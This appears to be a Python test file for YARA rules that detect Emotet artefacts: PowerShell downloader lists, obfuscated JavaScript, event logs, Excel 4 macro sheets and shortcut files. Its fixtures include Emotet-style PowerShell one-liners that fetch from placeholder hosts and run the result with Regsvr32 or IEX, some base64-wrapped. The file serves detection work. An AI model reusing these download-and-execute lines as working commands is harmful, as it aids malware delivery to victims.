"""Scripts, logs and what was left behind; and the rules against what researchers published of Emotet's campaigns."""

import base64
import re
import struct
from xml.sax.saxutils import escape

import pytest
from support.lnk_files import lnk
from support.public_data import labelled
from support.yara_rules import fits

# The key of the Bundeskriminalamt's program (signature-base 8a89b3b, yara/crime_emotet.yar).
KEY = bytes.fromhex("c3dada1963452c86773be9fd2464fbb807fe12d02a4813384868e8ae913ced82")
LIST = '$ProgressPreference="SilentlyContinue";$links=("http://192.0.2.1/");foreach ($u in $links) {IWR $u;Regsvr32.exe x}'
SPLIT = (
    '$dfkj="$strs=\\"http://192.0.2.1/,http://192.0.2.2/\\".Split(\\",\\");foreach($st in $strs){$r1=Get-Random;$r2=Get-Random;'
    '$tpth=\\"C:\\ProgramData\\\\\\"+$r1}";IEX $dfkj'
)


def test_what_the_police_put_away() -> None:
    assert fits(KEY + b"\x17" * 5000) == fits(KEY) == {"police_quarantine"}
    assert fits(b"\0" + KEY) == set(), "only at the beginning"
    assert fits(KEY[:-1] + b"\x83" + bytes(50)) == set()
    assert fits(KEY.hex().encode()) == set()


def test_how_a_script_begins() -> None:
    text = "var a=['aGVsbG8=','d29ybGQ='];(function(b,c){}(a,0x12));"
    assert fits(text.encode("utf-16")) == fits(text.encode("utf-16-le")) == {"emotet_javascript_array"}
    assert fits(text.encode()) == set()
    assert fits(("/* */" + text).encode("utf-16")) == set()
    assert fits("var b=['a'];".encode("utf-16")) == set()


@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize("text", [LIST, 'Write-Host "PcRKE";' + LIST, "powershell  " + SPLIT, "start /B powershell " + SPLIT])
def test_a_script_that_is_the_list(text: str, codec: str) -> None:
    assert fits(text.encode(codec)) == {"emotet_powershell_list"}


@pytest.mark.parametrize(
    "text",
    [
        "A report. " * 20 + LIST,  # what is quoted in a report does not stand at its beginning
        "A report. " * 40 + SPLIT,
        LIST.replace("Regsvr32", "Start-Process"),
        '$ProgressPreference="SilentlyContinue"\n$links=("http://www.example.com/")\nregsvr32 a.ocx',
        '$strs="http://192.0.2.1/a,b".Split(",");foreach($s in $strs){echo $s}',
    ],
)
def test_scripts_and_reports_that_are_not_the_list(text: str) -> None:
    assert fits(text.encode()) == fits(text.encode("utf-16-le")) == set()


def log(text: str) -> bytes:
    """The header of an event log, and a text as its records hold texts (UTF-16)."""
    return b"ElfFile\0" + struct.pack("<QQQIHHHH", 0, 0, 1, 128, 1, 3, 4096, 1) + bytes(4500) + text.encode("utf-16-le") + bytes(99)


@pytest.mark.parametrize("text", [LIST, SPLIT, "powershell -c iex " + base64.b64encode(b"x" + LIST.encode()).decode()])
def test_a_log_that_recorded_the_list(text: str) -> None:
    assert fits(log(text)) == {"emotet_logged_list"}
    assert fits(b"elfFile\0" + log(text)[8:]) == set()


def test_a_log_that_recorded_something_else() -> None:
    assert fits(log('$ProgressPreference = "SilentlyContinue"; $links = (Get-Content list.txt)')) == set()


def published() -> dict[str, str]:
    """Texts about Emotet's campaigns by researchers; some hold formulas and commands as they were."""
    return {name: path.read_text("utf-8", "replace") for name, path in labelled("ioc_text").items()}


def sheet(formulas: list[str]) -> bytes:
    """*formulas* as the part of a macro sheet."""
    cells = "".join(f'<c r="A{row}"><f>{escape(one)}</f></c>' for row, one in enumerate(formulas, 1))
    return f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">{cells}</xm:macrosheet>'.encode()


def test_the_workbooks_that_were_published() -> None:
    """Every one whose formulas were published is found; named, unless its formulas have another form than those of the lists."""
    books = {name: re.findall(r"(?m)^\s*=((?:IF|CALL|EXEC)\(.+)$", text) for name, text in published().items()}
    books = {name: lines for name, lines in books.items() if sum("JJCCBB" in line for line in lines) >= 3}
    assert len(books) >= 40
    found = {name: fits(sheet(lines)) for name, lines in books.items()}
    own = {"emotet_excel4_list", "emotet_excel4_odd_extension"}
    assert [name for name, names in found.items() if "excel4_fetches_library" not in names] == []
    assert sum(bool(names & own) for names in found.values()) >= len(books) * 0.9


def test_the_lists_that_were_published() -> None:
    """Each in the shortcut, the script and the log that it would have stood in."""
    whole = "\n".join(published().values())
    lists = re.findall(r'(?m)^((?:Write-Host "\w+";)?\$ProgressPreference="SilentlyContinue";\$links=.+)$', whole)
    splits = re.findall(r'(?m)^(powershell +\$\w+="\$strs=.+)$', whole)
    assert len(lists) >= 8 and splits
    for text in lists:
        encoded = base64.b64encode(text.encode()).decode()
        assert fits(lnk("", f"iex ([System.Convert]::FromBase64String('{encoded}'))")) == {"emotet_shortcut_list"}
    for text in (*lists, *splits):
        assert fits(text.encode()) == {"emotet_powershell_list"}
        assert fits(log(text)) == {"emotet_logged_list"}
